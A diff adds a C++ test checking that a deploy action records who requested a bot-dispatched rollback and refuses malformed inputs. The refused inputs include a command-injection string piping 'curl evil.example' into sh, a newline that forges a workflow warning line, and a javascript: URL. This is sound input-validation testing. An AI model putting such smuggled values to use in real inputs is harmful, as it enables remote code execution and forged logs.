@@ -811,3 +811,62 @@ TEST_CASE("two rollbacks in a row without a version: the second goes further bac
   CHECK(state["deployments"][4]["statuses"].back()["state"] == "success");
   CHECK(state["deployments"][3]["statuses"].back()["state"] == "inactive");
 }
+
+TEST_CASE("a rollback deploy-bot dispatched records who asked as requested_by; the actor stays the bot") {
+  auto& repo = shared_repository();
+  json seed = base_seed(repo);
+  add_replaced_deployment(seed, repo, "v1.1.0");
+  add_live_deployment(seed, repo, "v1.2.0");
+  World world(seed, "1m", "0s");
+  std::ofstream(world.state / "version") << "v1.2.0";
+  const std::string comment = "https://github.example/acme/app/issues/10#issuecomment-4242";
+
+  // Untrusted inputs that are not a login or a request URL stop the run before anything happens.
+  for (const auto& [input, value] : std::vector<std::pair<std::string, std::string>>{
+           {"INPUT_REQUESTED-BY", "alice; curl evil.example | sh"},
+           {"INPUT_REQUESTED-BY", "alice\n::warning::forged"},
+           {"INPUT_REQUEST-URL", "javascript:alert(1)"},
+           {"INPUT_REQUEST-URL", "http://evil.example/acme/app/issues/10"}}) {
+    CAPTURE(value);
+    auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
+    env[input] = value;
+    auto refused = run_action(env);
+    CHECK(refused.exit_code == 1);
+    CHECK(contains(refused.output, "input '" + std::string(input == "INPUT_REQUESTED-BY" ? "requested-by" : "request-url") + "'"));
+    CHECK_FALSE(fs::exists(world.state / "steps"));
+  }
+
+  auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
+  env["GITHUB_EVENT_NAME"] = "workflow_dispatch";
+  env["INPUT_REQUESTED-BY"] = "alice";
+  env["INPUT_REQUEST-URL"] = comment;
+  auto run = run_action(env);
+  INFO(run.output);
+  REQUIRE(run.exit_code == 0);
+  CHECK(world.service->get("/version") == "v1.1.0");
+
+  auto outputs = world.outputs();
+  json record = audit_record(outputs["audit-file"]);
+  CHECK(record["kind"] == "rollback");
+  CHECK(record["actor"] == "deploy-bot[bot]");
+  CHECK(record["requested_by"] == "alice");
+  CHECK(record["request_url"] == comment);
+  auto verify = deploy::test::run_action({"verify-audit", outputs["audit-file"]});
+  CHECK_MESSAGE(verify.exit_code == 0, verify.output);
+  CHECK(contains(world.summary(), "**Requested by:** @alice"));
+  CHECK(contains(world.summary(), "[Request](" + comment + ")"));
+
+  // A run nobody asked the bot for has neither field, as records written before them.
+  auto by_frank = world.env("refs/heads/main", "frank", "rollback");
+  by_frank["INPUT_VERSION"] = "v1.2.0";
+  auto forward = run_action(by_frank);
+  INFO(forward.output);
+  REQUIRE(forward.exit_code == 0);
+  const std::string second_file = world.outputs()["audit-file"];
+  json second = audit_record(second_file);
+  CHECK(second["actor"] == "frank");
+  CHECK_FALSE(second.contains("requested_by"));
+  CHECK_FALSE(second.contains("request_url"));
+  auto chain = deploy::test::run_action({"verify-audit", outputs["audit-file"], second_file});
+  CHECK_MESSAGE(chain.exit_code == 0, chain.output);
+}
